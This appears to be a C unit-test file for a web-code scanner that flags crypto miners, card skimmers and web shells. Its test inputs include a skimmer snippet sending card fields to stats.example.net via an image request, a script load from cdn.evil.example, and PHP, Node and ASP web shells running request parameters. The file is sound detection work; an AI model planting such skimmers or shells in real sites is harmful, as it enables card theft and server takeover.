// SPDX-License-Identifier: Apache-2.0
/* Pages and scripts written for the test; rules/behaviour/web.cases.yaml has more. DAVY TEST IMITATION. */
#include "inspect/code_read.h"
#include "inspect/test-look.h"

static struct facts facts;

static void look(const char *path, const char *text)
{
    static const char *const only[] = {"web", "unwrap", "wasm", NULL};
    look_with(&(struct inspect_options){.only = only}, path, str_from(text), &facts);
}

static bool does(const char *word)
{
    return facts_list(&facts, F_WEB_DOES, word);
}

static bool lists(enum field_id id, const char *want)
{
    return facts_list(&facts, id, want);
}

TEST(literals_are_read_as_they_mean)
{
    static const struct {
        enum code_language language;
        const char *code, *want;
    } ROWS[] = {
        {CODE_JAVASCRIPT, "'a' + \"b\" + 'c'", "abc"},
        {CODE_JAVASCRIPT, "\"\\x61\\u0062\\u{63}\\144\"", "abcd"},
        {CODE_JAVASCRIPT, "/* 'no' */ // 'no'\n 'yes'", "yes"},
        {CODE_PHP, "'a' . \"\\x62\" # 'no'", "ab"},
        {CODE_PHP, "'\\x62'", "x62"},
        {CODE_ASP, "\"a\" & \"b\" ' \"no\"", "ab"},
    };
    for (size_t i = 0; i < ARRAY_SIZE(ROWS); i++) {
        struct code_reader r;
        struct token t;
        code_begin(&r, str_from(ROWS[i].code), ROWS[i].language);
        CHECK(code_next(&r, &t));
        CHECK_INT(t.kind, TOKEN_STRING);
        CHECK_STR(t.text, ROWS[i].want);
        code_done(&r);
    }
}

TEST(patterns_are_no_divisions)
{
    struct code_reader r;
    struct token t;
    unsigned patterns = 0;
    code_begin(&r, STR("a / b / c; x = /4[0-9]{12}'/; return /[/]'/.test(y) / 2; (a) / 'x' / 3"), CODE_JAVASCRIPT);
    while (code_next(&r, &t))
        patterns += t.kind == TOKEN_REGEX;
    CHECK_INT(patterns, 2);
    code_done(&r);
}

TEST(numbers_that_are_a_module_or_a_word)
{
    look("/srv/a.js", "var m = new Uint8Array([0x00, 97, 115, 109, 1, 0, 0, 0]); f(String.fromCharCode(109,105,110,105,110,103,46,115,117,98,109,105,116));");
    CHECK(lists(F_UNWRAP_CHAINS, "numbers"));
    CHECK(does("mining-protocol"));
    look("/srv/a.js", "var t = [0, 97, 115, 108, 1, 0, 0, 0, 2];");
    CHECK(!facts_has(&facts, F_UNWRAP_CHAINS));
}

TEST(a_miner_waits_for_a_click)
{
    look("/srv/a.html", "<script>b.addEventListener('click', function () { miner.start(); });</script>");
    CHECK(!does("starts-on-load"));
    look("/srv/a.html", "<script>if (confirm('Mine?') && miner.start()) x();</script>");
    CHECK(does("starts-on-load"));
    look("/srv/a.html", "<script>b.addEventListener('load', function () { miner.start(); });</script>");
    CHECK(does("starts-on-load"));
    look("/srv/a.html", "<div class='coinhive-miner' data-key='x'></div>");
    CHECK(lists(F_WEB_CONSENT, "start-button"));
    look("/srv/a.html", "<div class='coinhive-miner' data-autostart='true'></div>");
    CHECK(!facts_has(&facts, F_WEB_CONSENT));
}

TEST(written_pages_are_pages)
{
    look("/srv/a.js", "document.write('<script src=\"https://cdn.evil.example/x.js\"></scr' + 'ipt>');");
    CHECK(lists(F_WEB_SCRIPTS, "cdn.evil.example"));
    CHECK(lists(F_WEB_SCRIPTS, "evil.example"));
}

TEST(names_of_fields_of_cards)
{
    look("/srv/a.js", "x = ['payment[cc_number]', 'card-cvc']");
    CHECK(does("card-fields"));
    look("/srv/a.js", "discardNumber(succNode, cvc, cvv, 'cvc')");
    CHECK(!does("card-fields"));
    look("/srv/a.js", "document.getElementById('card-number'), document.getElementById('cvc')");
    CHECK(does("card-fields"));
    look("/srv/a.js", "if (/card|cvv|cvc/i.test(s)) s = 1;");
    CHECK(does("card-fields"));
    look("/srv/a.js", "x = { cardCVC: 1, 'user CVVCode': 2 }");
    CHECK(does("card-fields"));
    look("/srv/a.js", "x = { A: r('gghCvC'), B: r('giiCVCI'), C: r('aCVv'), D: r('bCVCQX') }"); /* ranges of letters, packed */
    CHECK(!does("card-fields"));
    look("/srv/a.js", "document.getElementById('cvc'); if (/cvc/.test(s)) s = 1;");
    CHECK(!does("card-fields"));
}

TEST(type_declarations_are_no_script)
{
    static const struct {
        const char *path, *code;
        bool want;
    } CASES[] = {
        {"/lib/dom.d.ts", "interface Document extends Node {\n    readonly forms: X;\n}\n", true},
        {"/lib/dom.js", "var interface = 1; interface\nDocument();\n", false}, /* two statements */
        {"/lib/dom.js", "// interface Document\nf(\"interface Document\", `interface Document`);\n", false},
        {"/lib/dom.js", "eval(atob('aW50ZXJmYWNlIERvY3VtZW50IGV4dGVuZHMgTm9kZSB7fQ=='));\n", false},
        {"/lib/page.html", "<html><script>interface Document {}</script><script>f()</script></html>\n", false},
    };
    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
        look(CASES[i].path, CASES[i].code);
        if (does("declares-types") != CASES[i].want)
            test_fail(__FILE__, __LINE__, "%s", CASES[i].code);
    }
}

TEST(what_a_visitor_sends)
{
    look("/srv/a.php", "<?php $x = $_GET['x']; $y = $x; if (1) { system($y); }");
    CHECK(lists(F_WEB_RUNS_REQUEST, "system"));
    look("/srv/a.php", "<?php $x = (int)$_GET['x']; system('ls'); function exec($a) {} $pdo->exec($_POST['q']); Shell::exec($_POST['q']);");
    CHECK(!facts_has(&facts, F_WEB_RUNS_REQUEST));
    look("/srv/a.php", "<?php include $_GET['page'];");
    CHECK(lists(F_WEB_RUNS_REQUEST, "include"));
    look("/srv/a.php", "<?php $h = array('a' => 'b'); $h[$_GET['do']]();");
    CHECK(!facts_has(&facts, F_WEB_RUNS_REQUEST));
    look("/srv/a.js", "app.get('/', (req, res) => require('child_process').exec(req.query.c))");
    CHECK(lists(F_WEB_RUNS_REQUEST, "exec"));
    static const char *const SHELLS[] = {
        "const c = require('child_' + 'process'); app.use(r => c.exec(r.x = req.body.c))",
        "import * as c from 'node:child_process'; export default (req) => c.exec(req.query.c)",
        "import c from \"child_process\"; export default (req) => { const q = req.query.c; c.exec(q) }",
        "async (req) => (await import('child_process')).exec(req.query.c)",
        "const { exec } = require('child_process'); f(req => exec(req.query.c))",
        "require('shelljs').exec(req.query.c)",
    };
    for (size_t i = 0; i < ARRAY_SIZE(SHELLS); i++) {
        look("/srv/a.js", SHELLS[i]);
        if (!lists(F_WEB_RUNS_REQUEST, "exec"))
            test_fail(__FILE__, __LINE__, "%s", SHELLS[i]);
    }
    look("/srv/a.js", "const cp = require('child_process'); cp.exec('ls'); let e = req.query.c, t = ID.exec(e); /^[0-9]+$/.exec(req.params.id); db.exec(req.body.q)");
    CHECK(!facts_has(&facts, F_WEB_RUNS_REQUEST));
    look("/srv/a.asp", "<% Set s = CreateObject(\"WScript.Shell\"): s.Exec(\"cmd /c \" & Request.QueryString(\"c\")) %>");
    CHECK(lists(F_WEB_RUNS_REQUEST, "exec"));
    look("/srv/a.js", "/x/.exec(location.search); new Map().query; function f(req) { return req.query.c }");
    CHECK(!facts_has(&facts, F_WEB_RUNS_REQUEST));
}

/* The pieces, with so many bytes of other code between them. */
static void look_apart(const char *const *pieces, size_t filler)
{
    _cleanup_(strbuf_done) struct strbuf b = {};
    for (; *pieces; pieces++) {
        strbuf_adds(&b, *pieces);
        for (size_t to = b.n + filler; b.n < to;)
            strbuf_adds(&b, "a.b(c);\n");
    }
    look("/srv/www/shop/bundle.js", strbuf_str(&b).p);
}

TEST(what_is_done_near_names_of_cards)
{
    static const char *const PIECES[] = {"document.addEventListener('submit', function () { d = document.forms[0]['cc_number'].value; c = d.cc_cid;\n",
                                         "new Image().src = 'https://stats.example.net/?d=' + btoa(JSON.stringify(d)); });\n", NULL};
    look_apart(PIECES, 0);
    CHECK(lists(F_WEB_NEAR_CARDS, "card-fields") && lists(F_WEB_NEAR_CARDS, "sends-image") && lists(F_WEB_NEAR_CARDS, "encodes"));
    look_apart(PIECES, 7 << 10);
    CHECK(lists(F_WEB_NEAR_CARDS, "sends-image"));
    look_apart(PIECES, 24 << 10);
    CHECK(does("card-fields") && does("sends-image"));
    CHECK(lists(F_WEB_NEAR_CARDS, "card-fields") && !lists(F_WEB_NEAR_CARDS, "sends-image") && !lists(F_WEB_NEAR_CARDS, "encodes"));
}

TEST(what_stands_around_several_names_of_cards_does_not_add_up)
{
    static const char *const PIECES[] = {"x = ['cc_number', 'cc_cid'];\n", "new Image().src = 'https://stats.example.net/';\n", "x = 'cc_number';\n",
                                         "y = btoa('a'); z = 'cc_cid'; document.addEventListener('submit', f);\n", NULL};
    look_apart(PIECES, 12 << 10);
    CHECK(does("sends-image") && does("encodes"));
    CHECK(lists(F_WEB_NEAR_CARDS, "encodes") != lists(F_WEB_NEAR_CARDS, "sends-image"));
}

TEST(fields_that_a_recorder_leaves_out_are_no_cards)
{
    look("/srv/www/a.js", "if(['current-password','new-password','cc-number','cc-exp','cc-csc'].includes(e.getAttribute('autocomplete')))return;");
    CHECK(!does("card-fields"));
    look("/srv/www/a.js", "if(['cc-number','cc-exp','cc-csc'].includes(e.getAttribute('autocomplete')))take(e);");
    CHECK(does("card-fields"));
}

TEST(a_variable_of_a_bundle_stands_for_what_it_was_given_near_there)
{
    static const char *const PIECES[] = {"const cp=require('child_process');\n", "const e=req.query.x;\n", "cp.spawn(e);\n", NULL};
    look_apart(PIECES, 1 << 10);
    CHECK(lists(F_WEB_RUNS_REQUEST, "spawn"));
    look_apart(PIECES, 9 << 10);
    CHECK(!facts_has(&facts, F_WEB_RUNS_REQUEST));
}

TEST(keys_of_miners_are_no_marks)
{
    look("/srv/www/a.js", "return new tree.Anonymous(',', i), new(tree.Anonymous)(' ', i), new tree.Anonymous('', i);");
    CHECK(!facts_has(&facts, F_WEB_MINERS));
    look("/srv/www/a.js", "out.push(new x.Token('definition_list_open', 'dl', 1)); w.start();");
    CHECK(!facts_has(&facts, F_WEB_MINERS));
    look("/srv/www/a.js", "new Quiet.Anonymous('SITE-KEY').start();");
    CHECK(lists(F_WEB_MINERS, "Quiet.Anonymous"));
}

TEST(deep_and_broken_code_ends)
{
    _cleanup_(strbuf_done) struct strbuf b = {};
    strbuf_pad(&b, '(', 100000);
    strbuf_pad(&b, '[', 100000);
    strbuf_adds(&b, "<script><script>'<script>\\'<script>");
    look("/srv/a.js", b.p);
    look("/srv/a.html", b.p);
    CHECK_STR(facts_get_str(&facts, F_FILE_KIND), "html");
    facts_done(&facts);
}
